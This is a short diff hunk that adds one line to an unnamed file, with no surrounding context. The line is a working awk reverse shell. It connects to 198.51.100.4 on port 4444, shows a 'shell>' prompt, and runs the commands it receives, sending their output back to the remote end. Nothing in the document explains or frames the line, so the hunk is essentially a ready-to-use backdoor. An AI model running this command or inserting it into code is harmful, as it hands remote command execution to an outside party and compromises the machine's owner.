@@ -1,0 +1,1 @@
+awk 'BEGIN {s = "/inet/tcp/0/198.51.100.4/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null
